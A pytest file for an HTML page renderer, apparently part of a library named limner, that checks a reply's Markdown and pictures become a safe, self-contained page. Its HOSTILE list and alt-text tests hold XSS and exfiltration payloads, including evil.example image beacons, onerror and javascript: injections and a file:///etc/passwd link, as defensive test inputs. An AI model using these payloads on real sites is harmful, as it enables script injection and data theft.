"""A reply as one page: what is in it, in which order, and what is never in it."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from limner.core.pictures import Picture
from limner.pages import html
from limner.pages.language import direction, guess
from limner.pages.markup import render
from limner.pages.words import words
from limner.reply.parts import ImagePart, Part, TextPart
from limner.reply.reply import Reply
from limner.storage.memory import MemoryStorage

pytestmark = pytest.mark.anyio

VOID = {"meta", "br", "hr", "img"}
ALLOWED = {
    "html": {"lang", "dir"},
    "head": set(),
    "meta": {"charset", "http-equiv", "content", "name"},
    "title": set(),
    "style": set(),
    "body": set(),
    "main": set(),
    "footer": set(),
    "figure": {"class"},
    "figcaption": {"dir", "aria-hidden"},
    "img": {"src", "alt", "width", "height", "decoding"},
    "span": {"class"},
    "div": {"class"},
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "pre": {"dir"},
    **{tag: {"dir"} for tag in ("p", "h1", "h2", "h3", "h4", "h5", "h6")},
    **{tag: {"dir", "class"} for tag in ("td", "th")},
    **{
        tag: set()
        for tag in (
            "blockquote",
            "code",
            "em",
            "strong",
            "s",
            "li",
            "ul",
            "table",
            "thead",
            "tbody",
            "tr",
            "br",
            "hr",
        )
    },
}
"""Every tag and attribute that a page may hold; all else is a hole."""


class Reading(HTMLParser):
    """A page as a reader's program sees it: checked on the way, words and pictures in order."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.path: list[str] = []
        self.seen: list[str] = []
        self.pictures: list[dict[str, str]] = []
        self.links: list[dict[str, str]] = []
        self.metas: list[dict[str, str]] = []
        self.title = self.style = self.language = self.direction = ""
        self.feed(page)
        self.close()
        assert self.path == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        assert tag in ALLOWED, tag
        assert set(found) <= ALLOWED[tag], (tag, found)
        if tag in ("figure", "div", "p", "ul", "ol", "table", "pre", "blockquote"):
            assert not {"p", "h1", "h2", "span", "a"} & set(self.path), (tag, self.path)
        if tag == "html":
            self.language, self.direction = found["lang"], found["dir"]
        if tag == "meta":
            self.metas.append(found)
        if tag == "a":
            assert re.match(r"https?://|mailto:", found.get("href", "https://"), re.I)
            assert found["rel"] == "noopener noreferrer nofollow"
            self.links.append(found)
        if tag == "img":
            assert re.fullmatch(r"data:image/(png|jpeg|webp);base64,[A-Za-z0-9+/]+=*", found["src"])
            assert "alt" in found
            self.pictures.append({**found, "within": " ".join(self.path)})
            self.seen.append(f"[{found['alt']}]")
        if tag not in VOID:
            self.path.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.path.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")

    def handle_data(self, data: str) -> None:
        if self.path and self.path[-1] == "title":
            self.title += data
        elif self.path and self.path[-1] == "style":
            self.style += data
        elif data.strip() and self.path[-1] != "figcaption":
            self.seen.append(data.strip())

    @property
    def text(self) -> str:
        """All words, and each picture as its alternative text in brackets, in reading order."""
        return " ".join(" ".join(self.seen).split())


def png(shade: int = 0, kind: str = "PNG") -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (16, 9), (shade, 90, 160)).save(written, kind)
    return written.getvalue()


async def reply_of(*pieces: str | int, offline: bool = False, kind: str = "PNG") -> Reply:
    """A reply of texts and pictures; picture n has the alternative text "Picture n"."""
    store = MemoryStorage()
    parts: list[Part] = []
    for piece in pieces:
        if isinstance(piece, str):
            parts.append(TextPart(piece))
            continue
        name = await store.put("local", png(piece, kind))
        kept = Picture(id=name, sha256="", format=kind.lower(), width=16, height=9, size_bytes=1)
        parts.append(ImagePart(piece, f"Picture {piece}", kept, store.link(name)))
    return Reply(parts=tuple(parts), offline=offline, read=store.open)


async def read(*pieces: str | int, offline: bool = False) -> Reading:
    return Reading(await html(await reply_of(*pieces, offline=offline)))


async def test_words_and_pictures_stand_in_reading_order() -> None:
    """DESIGN: text and pictures in the order a person reads them, every picture exactly once."""
    page = await read("# Tea\n\nWarm the pot.\n\n", 1, "\n\nPour.\n\n", 2, "\n\nDone.")
    assert page.text == "Tea Warm the pot. [Picture 1] Pour. [Picture 2] Done."


@pytest.mark.parametrize(("kind", "type"), [("PNG", "png"), ("JPEG", "jpeg"), ("WEBP", "webp")])
async def test_pictures_are_embedded_byte_for_byte(kind: str, type: str) -> None:
    """One self-contained file; the bytes decide the type (scorecard I09)."""
    page = Reading(await html(await reply_of("One: ", 1, kind=kind)))
    (picture,) = page.pictures
    head, _, data = picture["src"].partition(",")
    assert head == f"data:image/{type};base64"
    assert base64.b64decode(data) == png(1, kind)
    assert (picture["width"], picture["height"]) == ("16", "9")


PLACES: list[tuple[str, list[str | int], str, list[str]]] = [
    # what, pieces, the text, the elements around each picture below main
    ("alone", ["One.\n\n", 1, "\n\nTwo."], "One. [Picture 1] Two.", ["figure"]),
    ("at the end of a line", ["One ", 1, "\n\nTwo."], "One [Picture 1] Two.", ["figure"]),
    ("within a sentence", ["One ", 1, " two."], "One [Picture 1] two.", ["figure"]),
    ("before a full stop", ["A fox: ", 1, ". And more."], "A fox:. [Picture 1] And more.", ["figure"]),
    ("before a Chinese full stop", ["如图", 1, "。然后"], "如图。 [Picture 1] 然后", ["figure"]),
    ("in a tight list", ["- one\n  ", 1, "\n- two"], "one [Picture 1] two", ["ul li figure"]),
    ("in a loose list", ["1. one\n\n   ", 1, "\n\n2. two"], "one [Picture 1] two", ["ol li figure"]),
    ("in a quotation", ["> one ", 1, "\n> two"], "one [Picture 1] two", ["blockquote figure"]),
    (
        "in a table cell",
        ["| a | b |\n|---|---|\n| x | ", 1, " |\n"],
        "a b x [Picture 1]",
        ["div table tbody tr td span"],
    ),
    ("in a heading", ["# One ", 1, "\n\ntext"], "One [Picture 1] text", ["h1 span"]),
    ("in emphasis", ["so **one ", 1, " two** there"], "so one [Picture 1] two there", ["p strong span"]),
    ("in a link", ["see [one ", 1, "](https://x.example)"], "see one [Picture 1]", ["p a span"]),
    ("after bold that ends with punctuation", ["**饺子：**", 1], "饺子： [Picture 1]", ["figure"]),
    ("two on a line", [1, " ", 2], "[Picture 1] [Picture 2]", ["div figure", "div figure"]),
    (
        "two on two lines",
        ["one\n", 1, "\n", 2, "\ntwo"],
        "one [Picture 1] [Picture 2] two",
        ["div figure"] * 2,
    ),
    ("two paragraphs", [1, "\n\n", 2], "[Picture 1] [Picture 2]", ["figure", "figure"]),
    ("pictures alone", [1], "[Picture 1]", ["figure"]),
    # What Markdown swallows must not swallow a picture.
    ("after a backslash", ["one \\", 1, " two"], "one ! two [Picture 1]", ["figure"]),
    ("in an open fence", ["```\ncode\n", 1, "\nmore"], "code more [Picture 1]", ["figure"]),
    ("in indented code", ["text\n\n    ", 1, "\n"], "text [Picture 1]", ["figure"]),
    ("in code", ["`one ", 1, " two`"], "one two [Picture 1]", ["figure"]),
    ("in a link's address", ["[one](https://x.example/", 1, ")"], "one [Picture 1]", ["figure"]),
    ("in a link's title", ['[one](https://x.example "', 1, '")'], "one [Picture 1]", ["figure"]),
    ("in a definition", ["![one][r]\n\n[r]: <", 1, ">\n"], "one [Picture 1]", ["figure"]),
]


@pytest.mark.parametrize(
    ("pieces", "text", "around"), [row[1:] for row in PLACES], ids=[row[0] for row in PLACES]
)
async def test_a_picture_stays_where_it_stands_and_the_page_is_valid(
    pieces: list[str | int], text: str, around: list[str]
) -> None:
    """A figure may not stand inside a paragraph; a picture in a cell or a list item stays there."""
    page = await read(*pieces)
    assert page.text == text
    assert [picture["within"].removeprefix("html body main ") for picture in page.pictures] == around


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![x](data:image/png;base64,AAAA)",
    "![](image://1)",
    "![x](javascript:alert(1))",
    "<img src=https://evil.example/p.png>",
    "<IMG SRC='https://evil.example/p.png' onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
    "<video poster=https://evil.example/p.png></video>",
    "<p style=\"background:url(https://evil.example/)\">x</p>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<script>alert(1)</script>",
    "<script src=https://evil.example/></script>",
    "</main></body></html><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "# </title><script>alert(1)</script>",
    "<!-- --><img src=x onerror=alert(1)><!-- -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/relative)",
    "[x](#fragment)",
    "<javascript:alert(1)>",
    "[x](https://x.example \"onmouseover=alert(1)\")",
    "[x](https://x.example/\"onmouseover=\"alert(1))",
    "[x](https://x.example '\"><img src=x onerror=alert(1)>')",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "``` \"><script>alert(1)</script>\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| ![x](https://evil.example/) | c |",
    "|a|\n|:-:|\n|x|",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"https://x.example\" ping=\"https://evil.example\">x</a>",
    "\x00<img src=x>\x0b",
    "\ud800",
    "> " * 300 + "deep",
    "*" * 2000,
    "[" * 2000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
async def test_hostile_text_makes_a_page_that_fetches_and_runs_nothing(text: str) -> None:
    """Scorecard S21 to S25: only our own embedded pictures, and no way out but links that a person follows."""
    for pieces in ([text], [text, "\n\n", 1], ["one ", 1, " ", text, " ", 2, " two"], [text, 1, text]):
        page = await read(*pieces)
        assert [picture["alt"] for picture in page.pictures] == [
            f"Picture {n}" for n in pieces if isinstance(n, int)
        ]


async def test_hostile_alternative_text_is_only_text() -> None:
    """Scorecard I23: a picture's words may come from a provider or a user."""
    reply = await reply_of(1)
    alt = "\ud800\"><script>alert(1)</script> ' & <b> ![x](https://evil.example)"
    page = Reading(await html(replace(reply, parts=(replace(reply.images[0], alt=alt),))))
    assert page.pictures[0]["alt"] == page.title == alt.replace("\ud800", "\ufffd")


async def test_a_title_and_a_language_are_only_text() -> None:
    """Both may come from a command line."""
    page = Reading(await html(await reply_of("Hi"), title="</title><script>", language='"><script>'))
    assert (page.title, page.language) == ("</title><script>", '"><script>')


async def test_the_marks_of_pictures_cannot_be_forged() -> None:
    """Model text that knows how places are marked, and one whole page, still can't place a picture."""
    markup = render(["text ", None])
    (mark,) = re.findall(r"m[0-9a-f]{32}b0x", markup.html)
    for forged in (mark, f"![]({mark})", mark.replace("b0", "i0"), f"![](s{'0' * 32}n0x)"):
        again = render([f"{forged} ", None])
        assert again.place(lambda number: "[block]", lambda number: "[inline]").count("[") == 1
    page = await read(f"{mark} ", 1)
    assert mark in page.text
    assert len(page.pictures) == 1


@given(
    st.lists(
        st.one_of(
            st.integers(1, 3),
            st.text("ab *_`[]()!<>\\\n#|-~>1.&;:\"'\t", max_size=12),
            st.sampled_from(
                ["![", "](", "```\n", "    ", "\n\n", "| a |\n|---|\n| ", "- ", "[r]: ", "<a href=", "&#x"]
            ),
        ),
        max_size=8,
    )
)
@settings(max_examples=250, deadline=None)
def test_any_text_around_pictures_keeps_each_of_them_once(pieces: list[str | int]) -> None:
    """DESIGN decision 2: every picture exactly once, whatever the Markdown around it does."""
    markup = render([piece if isinstance(piece, str) else None for piece in pieces])
    count = sum(isinstance(piece, int) for piece in pieces)
    placed: list[int] = []

    def note(number: int) -> str:
        placed.append(number)
        return ""

    rest = markup.place(note, note)
    assert sorted(placed) == list(range(count))
    assert not re.search(r"[0-9a-f]{32}", rest + markup.title)
    Reading(f"<main>{rest}</main>")


async def test_the_browser_is_told_to_fetch_nothing() -> None:
    """A second lock: the policy names the one style sheet by its hash, and pictures that are embedded."""
    page = await read("Words ", 1)
    (policy,) = [
        meta["content"] for meta in page.metas if meta.get("http-equiv") == "Content-Security-Policy"
    ]
    digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules == {
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": f"'sha256-{digest}'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert "url(" not in page.style
    assert "@import" not in page.style


async def test_the_page_answers_to_phone_paper_and_night() -> None:
    """Readable on a phone, printable, light and dark."""
    page = await read("Words ", 1)
    assert any(meta.get("name") == "viewport" for meta in page.metas)
    for feature in ("prefers-color-scheme: dark", "@media print", "break-inside: avoid", "max-width: 100%"):
        assert feature in page.style


async def test_text_that_is_not_markup_comes_through() -> None:
    """Tables, strikethrough, code and links stay what they are."""
    page = await read(
        "~~old~~ `a < b` [site](https://x.example/?a=1&b=2) <https://y.example> [mail](mailto:a@x.example)\n\n"
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n3. three\n\n```python\nx = '<b>'\n```\n"
    )
    assert page.text == "old a < b site https://y.example mail a b 1 2 three x = '<b>'"
    assert [link["href"] for link in page.links] == [
        "https://x.example/?a=1&b=2", "https://y.example", "mailto:a@x.example",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("pieces", "title"),
    [
        (["# Green *tea*\n\ntext"], "Green tea"),
        (["intro\n\n## Later & `code`"], "Later & code"),
        (["Just a sentence. And another."], "Just a sentence"),
        (["先和面。再调馅。"], "先和面"),
        (["word " * 40], "word word word word word word word word word word word word word word…"),
        ([1], "Picture 1"),
        ([""], "Limner"),
        (["#\n\ntext"], "text"),
    ],
)
async def test_the_title_is_the_first_heading_else_the_first_words(
    pieces: list[str | int], title: str
) -> None:
    """A tab and a bookmark need a name."""
    assert (await read(*pieces)).title == title


async def test_a_title_that_is_given_heads_a_page_without_a_heading() -> None:
    """And leaves a page that has one as it is."""
    assert Reading(await html(await reply_of("Words."), title="Mine")).text == "Mine Words."
    page = Reading(await html(await reply_of("# Own\n\nWords."), title="Mine"))
    assert (page.title, page.text) == ("Mine", "Own Words.")


@pytest.mark.parametrize(
    ("text", "language", "runs"),
    [
        ("# Brew tea\n\nWarm the pot and pour the water.", "en", "ltr"),
        ("先把面粉倒进碗里，这样就可以开始了。", "zh-Hans", "ltr"),
        ("先把麵粉倒進碗裡，這樣就可以開始了。", "zh-Hant", "ltr"),
        ("お湯を沸かして、茶葉を入れます。", "ja", "ltr"),
        ("물을 끓이고 찻잎을 넣습니다.", "ko", "ltr"),
        ("Die Kanne wärmen und das Wasser auf die Blätter gießen.", "de", "ltr"),
        ("Versez l’eau sur les feuilles et attendez la fin du temps.", "fr", "ltr"),
        ("سخّن الإبريق ثم اسكب الماء.", "ar", "rtl"),
        ("חממו את הקנקן ומזגו את המים.", "he", "rtl"),
        ("Нагрейте чайник.", "", "ltr"),
        ("xyzzy", "", "ltr"),
        ("", "", "ltr"),
    ],
)
async def test_the_page_says_its_language_and_direction(text: str, language: str, runs: str) -> None:
    """Screen readers, fonts and line breaks go by it; a wrong guess is worse than none."""
    page = await read(text)
    assert (page.language, page.direction) == (language, runs)
    assert (guess(text), direction(text)) == (language, runs)


async def test_a_language_that_is_given_wins() -> None:
    """The caller knows better than a count of letters."""
    assert Reading(await html(await reply_of("Words"), language="pt-BR")).language == "pt-BR"


@pytest.mark.parametrize(
    ("text", "language"),
    [("Pour the water in.", "en"), ("把水倒进碗里，这样就好。", "zh-Hans"), ("Нагрейте.", "ru")],
)
async def test_an_offline_reply_says_so_in_its_language(text: str, language: str) -> None:
    """It always says that no language model is connected."""
    spoken = None if language != "ru" else "ru"
    page = Reading(await html(await reply_of(text, offline=True), language=spoken))
    assert page.text == f"{text} {words(language).offline}"
    assert words(language).offline not in (await read(text)).text


def test_an_unknown_language_is_answered_in_english() -> None:
    """Better a sentence in English than none."""
    assert words("tlh") == words("") == words("en-GB")
    assert words("zh-TW") == words("zh-Hant") != words("zh")


async def test_a_picture_that_cannot_be_read_leaves_its_words() -> None:
    """DESIGN decision 3: a picture that fails never fails the text, and is not hidden."""
    reply = await reply_of("one ", 1, "\n\n| a |\n|---|\n| ", 2, " |\n\ntwo ", 3)
    lost = [
        replace(part, picture=replace(part.picture, id="A" * 43))
        if isinstance(part, ImagePart) and part.number < 3
        else part
        for part in reply.parts
    ]
    page = Reading(await html(replace(reply, parts=tuple(lost))))
    said = words("en").unreadable
    assert page.text == f"one Picture 1 {said} a Picture 2 ({said}) two [Picture 3]"
    assert not Reading(await html(replace(reply, read=None))).pictures


async def test_bytes_that_are_no_picture_are_not_embedded() -> None:
    """Scorecard I10: an SVG can run scripts and fetch; it is never put into a page."""
    store = MemoryStorage()
    name = await store.put("local", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    part = ImagePart(1, "Fox", Picture(name, "", "png", 1, 1, 1), "")
    page = Reading(await html(Reply(parts=(part,), read=store.open)))
    assert page.pictures == []
    assert "Fox" in page.text


async def test_an_empty_reply_is_a_page() -> None:
    """Nothing said is not an error."""
    page = Reading(await html(Reply(parts=())))
    assert (page.text, page.title) == ("", "Limner")


MISSING = """
import sys
sys.modules["{library}"] = None
import anyio
from limner.errors import ConfigError
from limner.pages import html
from limner.reply.reply import Reply

try:
    anyio.run(html, Reply(parts=()))
except ConfigError as error:
    print(error.code, "limner[html]" in str(error))
"""


@pytest.mark.parametrize("library", ["markdown_it", "nh3"])
def test_a_missing_extra_says_what_to_install(library: str) -> None:
    """The base install can import the room; only its use needs the extra."""
    command = [sys.executable, "-c", MISSING.format(library=library)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["extra_missing", "True"]
